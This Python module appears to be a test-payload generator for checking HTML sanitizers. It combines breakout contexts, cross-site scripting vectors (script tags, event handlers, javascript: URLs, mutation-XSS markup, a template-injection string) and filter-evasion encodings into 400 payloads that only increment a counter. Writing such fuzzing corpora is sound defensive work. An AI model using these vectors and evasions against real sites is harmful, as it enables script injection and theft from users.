"""
Four hundred attempts to have text run as script, from a grammar of context, vector and encoding.

A context closes what the text may stand in, a vector runs `HIT` once it is markup, an encoding hides both. The
product is larger than 400: every context, vector and encoding is drawn, each pair of them as evenly as can be.
"""

import html
import itertools
import urllib.parse

HIT = "self.hits=(self.hits||0)+1"
MANY = 400
CONTEXTS = (
    "", '">', "'>", " x=", "-->", "</title>", "</textarea>", "</script>", "</style>", "</select>", "</template>",
    "</noscript>", "]]>", "';", '";', "`;", "})", "\n\n",
)  # fmt: skip
VECTORS = (
    "<script>HIT</script>",
    "<script src=data:text/javascript,HIT></script>",
    "<img src=x onerror=HIT>",
    "<svg onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=HIT>",
    "<iframe srcdoc='<script>parent.HIT</script>'>",
    "<iframe src=javascript:parent.HIT>",
    "<object data=javascript:HIT>",
    "<embed src=javascript:HIT>",
    "<body onload=HIT>",
    "<details open ontoggle=HIT>",
    "<input autofocus onfocus=HIT>",
    "<video><source onerror=HIT></video>",
    "<audio src onerror=HIT>",
    "<marquee onstart=HIT>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
    "<base href=javascript:/a/-HIT//>",
    "<a href=javascript:HIT autofocus>x</a>",
    "<form action=javascript:HIT><button autofocus>x</button></form>",
    "<link rel=stylesheet href=data:text/css,*{color:red}>",
    "<style>@import 'data:text/css,x'</style>",
    " onmouseover=HIT autofocus onfocus=HIT tabindex=1 ",
    "javascript:HIT",
    "{{ request.user.password }}{% debug %}",
    "${HIT}",
)
ENCODINGS = (
    lambda text: text,
    html.escape,
    lambda text: "".join(f"&#{ord(each)};" for each in text),
    lambda text: "".join(f"&#x{ord(each):x}" for each in text),
    urllib.parse.quote,
    lambda text: urllib.parse.quote(urllib.parse.quote(text)),
    lambda text: text.translate({ord("<"): "＜", ord(">"): "＞"}),
    lambda text: text.translate({ord("<"): "\\u003c", ord(">"): "\\x3e"}),
    lambda text: text.replace("script", "scr\tipt").replace("on", "o\u200bn"),
    lambda text: text.replace("<", "<\u0000").replace("=", "=\u000c"),
    lambda text: "".join(each.upper() if place % 2 else each for place, each in enumerate(text)).replace("hIt", "HIT"),
    lambda text: f"\u202e{text}\u202c",
)


def write_payloads() -> list[str]:
    """The payloads, each once, the same every time."""
    drawn: dict[str, None] = {}
    for number in itertools.count():
        context = CONTEXTS[number % len(CONTEXTS)]
        vector = VECTORS[(number * 5 + number // len(CONTEXTS)) % len(VECTORS)]
        encoding = ENCODINGS[(number * 7 + number // len(VECTORS)) % len(ENCODINGS)]
        drawn[encoding((context + vector).replace("HIT", HIT))] = None
        if len(drawn) == MANY:
            return list(drawn)
    raise AssertionError


def pack(payloads: list[str], room: int) -> list[str]:
    """The payloads in order, as many in one text as there is room for; a longer one by itself."""
    packed = [""]
    for each in payloads:
        if packed[-1] and len(packed[-1]) + 1 + len(each) > room:
            packed.append("")
        packed[-1] = f"{packed[-1]} {each}".strip(" ")
    return packed


def cover() -> tuple[int, int, int]:
    """How many contexts, vectors and encodings the first 400 draw: all of them."""
    numbers = range(MANY)
    return (
        len({number % len(CONTEXTS) for number in numbers}),
        len({(number * 5 + number // len(CONTEXTS)) % len(VECTORS) for number in numbers}),
        len({(number * 7 + number // len(VECTORS)) % len(ENCODINGS) for number in numbers}),
    )
